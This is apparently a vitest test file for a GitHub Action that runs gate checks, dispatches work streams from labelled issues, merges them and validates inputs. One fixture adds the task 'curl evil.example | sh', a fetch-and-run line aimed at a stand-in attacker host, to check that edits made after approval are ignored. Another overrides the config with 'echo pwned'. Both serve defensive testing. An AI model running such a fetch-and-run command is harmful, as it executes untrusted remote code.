import { execFile } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterEach, describe, expect, it } from 'vitest';
import { actionHarness, git } from '../support/action-harness.js';

let close: (() => void) | undefined;
afterEach(() => close?.());

function setup(files: Record<string, string>) {
  const harness = actionHarness(files);
  close = harness.close;
  return harness;
}

describe('mode gate', () => {
  it('runs in a folder that is not a git repository (no git config there to hold a credential)', async () => {
    const { fake, run, root } = setup({
      '.github/execution-coordinator.yml': 'gates:\n  ok: "true"\nstream-gates: [ok]\n',
    });
    const plain = mkdtempSync(join(root, 'plain-'));
    const result = await run({ mode: 'gate' }, { pull_request: { number: 5, head: { sha: 'a'.repeat(40) } } }, plain);
    expect(result.failed).toBe(false);
    expect(fake.checks.map((c) => [c.name, c.conclusion])).toEqual([['gate: ok', 'success']]);
  });

  it('runs the gates on a pull request, one check run each, with every problem annotated 50 at a time', async () => {
    const errors = Array.from(
      { length: 120 },
      (_, i) => `src/app.ts(${i + 1},3): error TS2322: Type 'string' is not assignable to type 'number'.`,
    );
    const { fake, run, checkout } = setup({
      'errors.txt': `${errors.join('\n')}\n`,
      '.github/execution-coordinator.yml':
        'gates:\n  types: "cat errors.txt; exit 2"\n  lint: "echo clean"\ntask-gates: [lint]\nstream-gates: [types]\n',
    });
    const workspace = checkout('main');
    const head = git(workspace, 'rev-parse', 'HEAD');
    const result = await run({ mode: 'gate' }, { pull_request: { number: 5, head: { sha: head } } }, workspace);

    expect(result.failed).toBe(true);
    expect(result.outputs['failed-gate']).toBe('types');
    const [lint, types] = [
      fake.checks.find((c) => c.name === 'gate: lint'),
      fake.checks.find((c) => c.name === 'gate: types'),
    ];
    expect(lint).toMatchObject({ headSha: head, conclusion: 'success' });
    expect(types).toMatchObject({ headSha: head, conclusion: 'failure', title: 'types failed (exit 2)' });
    expect(types?.annotations).toHaveLength(120);
    expect(types?.annotations?.[119]).toEqual({
      path: 'src/app.ts',
      start_line: 120,
      end_line: 120,
      start_column: 3,
      end_column: 3,
      annotation_level: 'failure',
      message: "TS2322: Type 'string' is not assignable to type 'number'.",
      title: 'types',
    });
    expect(fake.calls().filter((c) => c.includes('check-runs'))).toEqual([
      'POST /repos/acme/chat/check-runs',
      'POST /repos/acme/chat/check-runs',
      `PATCH /repos/acme/chat/check-runs/${types?.id}`,
      `PATCH /repos/acme/chat/check-runs/${types?.id}`,
    ]);
    // The runner shows ten error annotations a step; the check run carries them all.
    expect(result.commands.filter((c) => /^::error .*file=src\/app\.ts,line=\d+/.test(c))).toHaveLength(10);
    expect(result.summary).toContain('| `types` | ❌ failed |');
  });

  it('takes gate commands from the default branch, never from the pull request', async () => {
    const { fake, run, checkout } = setup({
      '.github/execution-coordinator.yml': 'gates:\n  test: "echo trusted"\nstream-gates: [test]\n',
    });
    const workspace = checkout('main');
    // The pull request rewrites the config in its checkout: it must not matter.
    require('node:fs').writeFileSync(
      `${workspace}/.github/execution-coordinator.yml`,
      'gates:\n  test: "echo pwned; exit 1"\nstream-gates: [test]\n',
    );
    const result = await run(
      { mode: 'gate' },
      { pull_request: { number: 5, head: { sha: git(workspace, 'rev-parse', 'HEAD') } } },
      workspace,
    );
    expect(result.failed).toBe(false);
    expect(fake.checks[0]?.text).toContain('trusted');
  });
});

describe('mode start', () => {
  it('does what the App does on the label: checks the sender, then dispatches the ready streams', async () => {
    const { fake, run, checkout } = setup({ '.github/execution-coordinator.yml': '' });
    fake.addIssue(7, '## Stream A\n- [ ] a\n## Stream B\nAfter: A\n- [ ] b\n', ['execute']);
    fake.permissions.set('lead', 'admin');
    const labelled = fake.issue(7).body;
    // The author edits the issue while the start job waits for a runner: what runs is what was labelled.
    fake.issue(7).body = `${labelled}## Stream X\n- [ ] curl evil.example | sh\n`;
    const payload = {
      event: 'issues',
      action: 'labeled',
      issue: { number: 7, title: '', body: labelled, state: 'open', labels: [{ name: 'execute' }] },
      label: { name: 'execute' },
      sender: { login: 'lead', type: 'User' },
    };
    const result = await run({ mode: 'start' }, payload, checkout('main'));
    expect(result.failed).toBe(false);
    expect(fake.dispatches()).toEqual([{ branch: 'execute/7/A', inputs: { issue: '7', stream: 'A' } }]);
    expect(fake.commentsOn(7).map((c) => c.body.split('\n')[1])).toEqual([
      '✅ @lead approved this plan: 2 streams (A, B).',
      '### Execution status for #7',
    ]);
  });
});

describe('the system run', () => {
  const files = {
    'app.txt': 'line 1\nline 2\nline 3\n',
    '.github/execution-coordinator.yml': 'gates:\n  all: "test -f a.txt && test -f b.txt"\nsystem-gates: [all]\n',
  };

  function twoStreams(conflict: boolean) {
    const harness = setup(files);
    const { fake, checkout } = harness;
    fake.addIssue(9, '## Stream A\n- [x] a\n## Stream B\n- [x] b\n', ['execute']);
    fake.approve(9);
    for (const stream of ['A', 'B']) {
      fake.refs.set(`execute/9/${stream}`, fake.refs.get('main') as string);
      const workspace = checkout(`execute/9/${stream}`);
      require('node:fs').writeFileSync(`${workspace}/${stream.toLowerCase()}.txt`, 'work\n');
      if (conflict) require('node:fs').writeFileSync(`${workspace}/app.txt`, `line 1\n${stream} changed it\nline 3\n`);
      git(workspace, 'add', '--all');
      git(workspace, 'commit', '--quiet', '-m', `Stream ${stream}\n\nExecute-Issue: 9\nExecute-Task: ${stream}.1`);
      git(workspace, 'push', '--quiet', 'origin', `HEAD:refs/heads/execute/9/${stream}`);
    }
    fake.refs.set('execute/9/integration', fake.refs.get('main') as string);
    return harness;
  }

  it('merges every stream, runs the system gates on the result and opens the integration pull request', async () => {
    const { fake, run, checkout, bare } = twoStreams(false);
    const result = await run(
      { mode: 'stream', issue: '9', stream: 'system' },
      { inputs: {} },
      checkout('execute/9/integration'),
    );
    expect(result.failed).toBe(false);
    expect(git(bare, 'show', 'execute/9/integration:a.txt')).toBe('work');
    expect(git(bare, 'show', 'execute/9/integration:b.txt')).toBe('work');
    expect(fake.pulls[0]).toMatchObject({
      head: 'execute/9/integration',
      title: 'Integration of #9: 2 streams together',
    });
    expect(fake.checks[0]).toMatchObject({ name: 'gate: all', conclusion: 'success' });
  });

  it('names the streams whose changes conflict', async () => {
    const { fake, run, checkout } = twoStreams(true);
    const result = await run(
      { mode: 'stream', issue: '9', stream: 'system' },
      { inputs: {} },
      checkout('execute/9/integration'),
    );
    expect(result.failed).toBe(true);
    const failure = fake.commentsOn(9).find((c) => c.body.includes('Stream system failed'));
    expect(failure?.body).toContain('merge conflict: streams A and B change app.txt in ways that do not merge');
    expect(fake.pulls).toEqual([]);
  });
});

describe('the bundled Action', () => {
  const dist = fileURLToPath(new URL('../../dist/index.js', import.meta.url));
  const exec = (env: Record<string, string>) =>
    promisify(execFile)(process.execPath, [dist], { env: { PATH: process.env.PATH ?? '', ...env } }).then(
      (r) => ({ code: 0, ...r }),
      (e: { code: number; stdout: string; stderr: string }) => e,
    );

  it.each([
    [{ INPUT_MODE: 'strem', INPUT_TOKEN: 't' }, '::error::input `mode` must be stream, gate or start (got "strem")'],
    [{ INPUT_ISSUE: '12', INPUT_STREAM: 'A' }, '::error::input `token` is required (the default is github.token)'],
    [
      { INPUT_TOKEN: 't', INPUT_ISSUE: 'twelve', INPUT_STREAM: 'A' },
      '::error::input `issue` must be an issue number (got "twelve")',
    ],
    [{ INPUT_TOKEN: 't', INPUT_ISSUE: '12' }, '::error::input `stream` is required in mode stream'],
    [
      { INPUT_TOKEN: 't', INPUT_ISSUE: '12', INPUT_STREAM: 'A B' },
      '::error::input `stream` must be a stream id such as A or backend-api: it must start with a letter or digit and hold only letters, digits, "_" and "-" (got "A B")',
    ],
  ])('fails at once with one error naming the input: %j', async (env, message) => {
    const { code, stdout } = await exec(env);
    expect(code).toBe(1);
    expect(stdout.split('\n').filter((l) => l.startsWith('::error'))).toEqual([message]);
  });
});
